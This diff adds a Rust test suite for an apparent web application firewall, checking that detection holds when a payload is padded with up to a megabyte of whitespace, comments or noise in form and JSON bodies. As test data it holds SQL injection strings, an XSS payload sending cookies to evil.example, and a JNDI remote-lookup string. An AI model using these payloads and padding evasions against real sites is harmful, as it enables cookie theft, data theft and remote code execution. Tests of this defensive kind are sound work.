@@ -1,0 +1,150 @@
+//! Padding hides nothing: a kilobyte to a megabyte of it, before a payload and inside, in forms and in JSON.
+
+use sidewatch::http::{Messages, Version};
+use sidewatch::{Engine, Transaction, Verdict};
+
+/// Text that repeats nothing for long.
+fn noise(size: usize) -> String {
+    let mut seed = 1u64;
+    let next = |_| {
+        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
+        char::from(b'a' + (seed >> 33) as u8 % 26)
+    };
+    (0..size).map(next).collect()
+}
+
+fn repeated(text: &str, size: usize) -> String {
+    text.repeat(size / text.len() + 1)
+}
+
+/// Name, and what it makes of a size: padding that the interpreter passes over.
+type Pad = (&'static str, fn(usize) -> String);
+
+const INSIDE_SQL: &[Pad] = &[
+    ("blanks", |n| repeated(" ", n)),
+    ("tabs and line ends", |n| repeated(" \t \n", n)),
+    ("empty comments", |n| repeated("/**/", n)),
+    ("one comment of letters", |n| format!("/*{}*/", repeated("a", n))),
+    ("one comment of noise", |n| format!("/*{}*/", noise(n))),
+    ("comments of noise", |n| format!("/*{}*/", noise(1500)).repeat(n / 1500 + 1)),
+    ("a line of noise", |n| format!("-- {}\n", noise(n))),
+];
+
+const BEFORE: &[Pad] = &[
+    ("blanks", |n| repeated(" ", n)),
+    ("letters", |n| repeated("A", n)),
+    ("words", |n| repeated("lorem ", n)),
+    ("noise", noise),
+];
+
+const SIZES: [usize; 4] = [1 << 10, 10_000, 1 << 17, 1 << 20];
+
+fn percent(text: &str) -> String {
+    let mut out = String::new();
+    for b in text.bytes() {
+        match b {
+            b' ' => out.push('+'),
+            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'*' | b'-' => out.push(b.into()),
+            _ => out += &format!("%{b:02X}"),
+        }
+    }
+    out
+}
+
+/// Each padding with its prefix and suffix as the value of a form, of a form in which all signs are escaped, and of JSON.
+fn check(transaction: &mut Transaction, name: &str, value: &str, class: &str, wrong: &mut Vec<String>) {
+    let json = value.replace('\\', "\\\\").replace('"', "\\\"").replace('\n', "\\n").replace('\t', "\\t");
+    let escaped: String = percent(value).replace('*', "%2A").replace('-', "%2D");
+    for (kind, body) in [
+        ("application/x-www-form-urlencoded", format!("a=1&q={}", percent(value))),
+        ("application/x-www-form-urlencoded", format!("a=1&q={escaped}")),
+        ("application/json", format!("{{\"q\":\"{json}\"}}")),
+    ] {
+        transaction.reset();
+        transaction.request_line(b"POST", b"/a", Version::Http11);
+        transaction.request_header(b"Content-Type", kind.as_bytes());
+        transaction.request_head_end();
+        body.as_bytes().chunks(16_000).for_each(|piece| transaction.request_body(piece));
+        transaction.request_end();
+        let found = transaction.findings().iter().any(|f| f.class.name() == class && f.confidence >= 50);
+        if !found {
+            wrong.push(format!("{name}, {} bytes of {kind}: {:?}", value.len(), transaction.findings()));
+        }
+    }
+}
+
+#[test]
+fn padding_inside_hides_nothing() {
+    let mut transaction = Engine::default().transaction();
+    let mut wrong = Vec::new();
+    for (name, pad) in INSIDE_SQL {
+        for size in SIZES {
+            let pad = pad(size);
+            let value = format!("7'{pad}UNION{pad}SELECT{pad}login,pin{pad}FROM staff");
+            if value.len() < 3 << 20 {
+                check(&mut transaction, name, &value, "sqli", &mut wrong);
+            }
+            check(
+                &mut transaction,
+                name,
+                &format!("7' UNION{pad}SELECT login,pin FROM staff"),
+                "sqli",
+                &mut wrong,
+            );
+        }
+    }
+    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
+fn padding_before_hides_nothing() {
+    let mut transaction = Engine::default().transaction();
+    let mut wrong = Vec::new();
+    for (name, pad) in BEFORE {
+        for size in SIZES {
+            let pad = pad(size);
+            for (class, payload) in [
+                ("sqli", "7' UNION SELECT login, pin FROM staff"),
+                ("xss", "<svg onload=fetch('//evil.example/'+document.cookie)>"),
+                ("rce", "${jndi:ldap://198.51.100.7:1389/o}"),
+            ] {
+                check(&mut transaction, name, &format!("{pad}{payload}"), class, &mut wrong);
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{} wrong:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
+fn fields_before_hide_nothing() {
+    let mut transaction = Engine::default().transaction();
+    for size in SIZES {
+        transaction.reset();
+        let body =
+            format!("{}q={}", repeated("A=A&", size), percent("7' UNION SELECT login, pin FROM staff"));
+        transaction.request_line(b"POST", b"/a", Version::Http11);
+        transaction.request_header(b"Content-Type", b"application/x-www-form-urlencoded");
+        transaction.request_head_end();
+        body.as_bytes().chunks(16_000).for_each(|piece| transaction.request_body(piece));
+        transaction.request_end();
+        assert_eq!(transaction.verdict(), Verdict::Attack, "{size} bytes of fields");
+    }
+}
+
+#[test]
+fn decoding_of_one_value_leaves_enough_for_the_next() {
+    let mut transaction = Engine::default().transaction();
+    // In base64.
+    let payload = "NycgVU5JT04gU0VMRUNUIGxvZ2luLCBwaW4gRlJPTSBzdGFmZg==";
+    let layers = "&amp;amp;amp;lt;%25252526lt;&#38;#38;\\\\x5c\\\\u0026 ".repeat(150);
+    let greedy: String = (0..100).map(|i| format!("\"{i}\":\"{}\",", layers.replace('\\', "\\\\"))).collect();
+    let body = format!("{{{greedy}\"q\":\"{payload}\"}}");
+    transaction.request_line(b"POST", b"/a", Version::Http11);
+    transaction.request_header(b"Content-Type", b"application/json");
+    transaction.request_head_end();
+    transaction.request_body(body.as_bytes());
+    transaction.request_end();
+    assert!(transaction.anomalies().contains(sidewatch::Anomaly::DecodeBudget));
+    let found = transaction.findings().iter().any(|f| f.point == "body.json.q|base64");
+    assert!(found, "{:?}", transaction.findings());
+}
